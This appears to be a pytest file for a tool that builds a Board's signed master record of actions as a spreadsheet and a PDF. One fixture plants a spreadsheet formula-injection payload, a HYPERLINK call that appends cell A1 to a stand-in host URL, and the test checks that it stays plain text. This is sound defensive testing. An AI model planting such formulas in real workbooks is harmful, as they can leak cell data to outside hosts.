"""`scr report --master`: the final master record of every action for the Chair to sign (seed 001
§2.9), from the demo case with one action signed off by `scr sign-off`: its contents, its Audit row,
and its printed pages (LibreOffice's PDF, read back with poppler)."""
from __future__ import annotations

import datetime as dt
import hashlib
import re
import subprocess

import openpyxl
import pytest

from print_pages import measure
from tracker.excel_dates import fmt
from workbook.board_report.master import is_master
from workbook.case import layout as L
from workbook.case.logs import last_report
from workbook.case.read import Reader
from workbook.commands.demo import run_demo
from workbook.commands.report import build_master
from workbook.commands.sign_off import sign_off
from workbook.xlsx.patch import Patch

TODAY = dt.date(2026, 12, 2)
SIGNED = dt.date(2026, 12, 1)
TRICK = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'  # typed text that must stay text


@pytest.fixture(scope="module")
def master(tmp_path_factory):
    folder = tmp_path_factory.mktemp("master")
    case = run_demo(folder, TODAY).path
    ws = openpyxl.load_workbook(case)[L.ACTIONS]
    cols = {c.value: c.column_letter for c in ws[L.ACTIONS_TABLE.header_row]}
    p = Patch(case)
    p.set_cells(L.ACTIONS, {f"{cols['Resources']}{L.ACTIONS_TABLE.first_row + 3}": TRICK})  # action 2.2
    p.save()
    sign_off(case, "2.1", "Chair", SIGNED, today=TODAY)
    made = build_master(case, pdf=True, today=TODAY)
    return case, made


def _texts(path) -> list[str]:
    ws = openpyxl.load_workbook(path).active
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


def test_every_action_is_there_with_its_record_and_its_sign_off(master):
    case, made = master
    assert is_master(made.path) and (made.actions, made.signed_off, made.ready) == (8, 2, False)
    texts = _texts(made.path)
    heads = [t for t in texts if t.startswith("Action ") and " · " in t]
    assert [h.split()[1] for h in heads] == ["1.1", "1.2", "2.1", "2.2", "3.1", "3.2", "4.1", "4.2"]
    assert "Every referral reaches the right team the same working day." in texts  # 1.1's intended outcome
    assert "Chair of the Board" in texts and "Designated senior manager" in texts
    assert f"Chair on {fmt(SIGNED)}" in texts  # 2.1's sign-off, read from the Updates entry
    assert any(t.startswith("the Board's sign-off; intended outcome") for t in texts)  # 4.1 has nothing yet
    assert "Signed off by the Chair on behalf of the Board" in texts
    assert {"Signature", "Name", "Date"} <= set(texts)
    ws = openpyxl.load_workbook(made.path).active
    trick = [c for row in ws.iter_rows() for c in row if c.value == TRICK]
    assert trick and trick[0].data_type == "s"  # free text, never a formula


def test_it_is_recorded_in_the_audit_without_moving_the_progress_reports_date(master):
    case, made = master
    reader = Reader(case)
    ws = reader.wb[L.AUDIT]
    digest = hashlib.sha256(made.path.read_bytes()).hexdigest()
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=L.AUDIT_TABLE.first_row)]
    mine = [r for r in rows if r[1] == "report --master"]
    assert len(mine) == 1 and digest in mine[0][3] and made.path.name in mine[0][3]
    assert last_report(reader) is None  # "changes since the last report" counts progress reports only


@pytest.mark.usefixtures("libreoffice_required")
def test_it_prints_landscape_readable_numbered_and_no_action_split_between_pages(master):
    _case, made = master
    info = subprocess.run(["pdfinfo", str(made.pdf)], capture_output=True, text=True, check=True).stdout
    w, h = map(float, re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info).groups())
    assert w > h  # landscape
    printed = measure(made.pdf)
    assert printed.smallest_pt >= 7.95, printed.small_words[:5]
    n = printed.pages
    assert n > 1
    for i, page in enumerate(printed.text, 1):
        assert f"Page {i} of {n}" in page
        # each action's block starts and ends on one page: its heading and its last row together
        assert page.count("Action (SMART)") == page.count("Board sign-off") >= 1, i
    assert "Signature" in printed.text[-1] and "Action 4.2" in printed.text[-1]
    assert sum(p.count("Board sign-off") for p in printed.text) == 8


def test_scr_report_master_on_the_command_line(master, tmp_path):
    from shared import scr_process
    case, _made = master
    out = tmp_path / "record.xlsx"
    run = scr_process("report", case, "--master", "--out", out, "--today", "02/12/2026")
    assert run.returncode == 0, run.stderr
    assert is_master(out) and "8 actions, 2 signed off by the Board" in run.stdout
    assert "not yet complete" in run.stdout
    again = scr_process("report", case, "--master", "--out", case)  # never over the case itself
    assert again.returncode != 0 and "Traceback" not in again.stderr
